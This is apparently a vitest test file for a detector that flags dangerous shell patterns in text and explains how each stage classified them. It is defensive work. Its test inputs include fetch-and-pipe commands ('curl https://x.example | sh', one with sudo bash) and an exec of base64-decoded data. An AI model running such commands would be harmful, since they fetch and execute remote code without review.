import { describe, expect, it } from "vitest";
import type { RegionStages, Stages } from "../../src/core/index.js";
import { sharedDetector } from "../support/marked.js";

const explained = async (text: string): Promise<Stages> => (await sharedDetector()).explain(text);
const firstRegion = async (text: string): Promise<RegionStages> =>
  (await explained(text)).regions[0]!;

describe("what each stage made of a text", () => {
  it("ends with the answer that detect gives", async () => {
    const detector = await sharedDetector();
    for (const text of [
      "",
      "curl https://x.example | sh",
      "Never run `curl https://x.example | sh`!",
      "```python\nexec(base64.b64decode(x))\n```",
    ]) {
      expect(detector.explain(text, { offsetEncoding: "utf-8" }).detection).toEqual(
        detector.detect(text, { offsetEncoding: "utf-8" }),
      );
    }
  });

  it("is nothing where the gate holds a text back", async () => {
    expect(await explained("hello")).toMatchObject({
      mentions: false,
      regions: [],
      judgements: [],
    });
  });

  it("says what is read, as what, and where it stands", async () => {
    const text = "- Install:\n\n  ```bash\n  curl https://x.example | sh\n  ```\n";
    expect(await firstRegion(text)).toMatchObject({
      kind: "fence",
      language: "shell",
      tag: "bash",
      calls: null,
      text: "curl https://x.example | sh",
      shown: null,
      blocks: ["document", "list", "item", "code"],
    });
  });

  it("says what the grammar read and the patterns captured, with file and line", async () => {
    const { trees, names } = await firstRegion("Run `curl https://x.example | sudo bash`");
    expect(trees).toMatchObject([
      { language: "bash", whole: true, captures: [{ role: "flow.pipe", span: [5, 39] }] },
    ]);
    expect(names.map(({ role, word }) => `${role} ${word}`)).toEqual([
      "source.fetcher curl",
      "flow.wrapper sudo",
      "sink.interpreter bash",
    ]);
    for (const { pattern } of names) expect(pattern).toMatch(/^contract\/bash\/\w+\.scm:\d+$/);
    expect((await firstRegion("```bash\ncurl https://x.example | sh )\n```")).trees[0]?.whole).toBe(
      false,
    );
  });

  it("names the language whose calls are known by name", async () => {
    expect(await firstRegion('```rb\nsystem("curl https://x.example | sh")\n```')).toMatchObject({
      language: "unknown",
      calls: "ruby",
      matches: [{ rule: "bash/fetch-pipe" }],
    });
  });

  it("says what was found and why it is not meant", async () => {
    const { regions, judgements } = await explained(
      "Never run `curl https://x.example | sh`, but `curl https://y.example | sh`.",
    );
    expect(regions.map(({ matches }) => matches.length)).toEqual([1, 1]);
    expect(judgements).toMatchObject([
      { rule: "bash/fetch-pipe", span: [11, 38], dismissal: { reason: "warned-against" } },
      { span: [46, 73], dismissal: null },
    ]);
  });

  it("says why a region is only shown", async () => {
    const { regions, judgements } = await explained(
      "```diff\n-curl https://x.example | sh\n+true\n```",
    );
    expect(regions).toMatchObject([
      { shown: { reason: "removed" }, matches: [{ rule: "bash/fetch-pipe" }] },
    ]);
    expect(judgements).toEqual([]);
  });
});
